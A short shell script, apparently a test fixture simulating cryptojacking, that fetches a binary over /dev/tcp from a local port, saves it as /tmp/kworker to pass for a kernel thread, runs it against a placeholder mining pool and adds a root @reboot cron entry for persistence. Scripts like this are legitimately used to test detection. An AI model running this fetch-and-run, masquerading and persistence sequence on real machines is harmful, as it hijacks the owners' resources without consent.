# A miner is downloaded, started and made persistent by a cron job.
exec 3<>/dev/tcp/127.0.0.1/$PORT
echo GET >&3
cat <&3 >/tmp/kworker
chmod +x /tmp/kworker
sleep 0.1
/tmp/kworker -c 'sleep 0.2' stratum+tcp://pool.example:3333
sleep 0.1
echo '@reboot root /tmp/kworker' >/etc/cron.d/kworker
sleep 0.1
